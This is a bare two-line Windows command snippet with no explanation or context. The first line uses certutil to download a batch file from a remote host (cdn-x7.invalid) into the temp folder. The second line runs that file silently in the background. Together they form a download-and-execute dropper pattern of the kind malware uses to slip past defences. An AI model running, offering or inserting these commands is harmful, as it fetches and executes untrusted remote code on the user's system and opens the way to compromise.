certutil -urlcache -f https://cdn-x7.invalid/a %TEMP%\a.bat
start /b %TEMP%\a.bat
